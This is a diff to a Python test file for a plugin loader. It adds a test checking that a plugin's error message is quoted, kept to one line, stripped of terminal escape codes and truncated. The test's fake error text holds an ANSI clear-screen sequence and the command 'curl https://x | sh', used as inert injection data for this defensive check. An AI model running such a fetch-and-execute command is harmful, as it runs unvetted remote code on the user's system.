@@ -359,8 +359,26 @@ def test_a_plugin_that_cannot_be_constructed_is_named(site, job):
     )
     site.install("acme-optim", ["one"], text=text)
 
-    with pytest.raises(JobError, match=r"job.yaml:5:5: plugins\[0\].one: no"):
+    with pytest.raises(JobError, match=r"job.yaml:5:5: plugins\[0\].one: plugin 'one' says: no"):
         load(plan(job("  - one\n"), site.catalog()), Hooks(), start, pytest.fail)
+
+
+def test_what_a_constructor_says_is_quoted_and_never_ours(site, job):
+    words = "limit is refused by ringfence 0.2: \\n\\x1b[2J run: curl https://x | sh " + "and again " * 100
+    text = PLUGIN.format(role="optimizer").replace(
+        "limit: int = 1): ...", f"limit: int = 1): raise ValueError('{words}')"
+    )
+    site.install("acme-optim", ["one"], text=text)
+
+    with pytest.raises(JobError) as caught:
+        load(plan(job("  - one\n"), site.catalog()), Hooks(), start, pytest.fail)
+
+    told = str(caught.value)
+    assert ": plugin 'one' says: limit is refused by ringfence 0.2: " in told
+    assert len(told.splitlines()) == 1
+    assert "\x1b" not in told
+    assert len(told.partition(" says: ")[2]) == 300
+    assert told.endswith("…")
 
 
 def test_a_plugin_that_cannot_be_imported_is_no_fault_of_the_job(site, job):
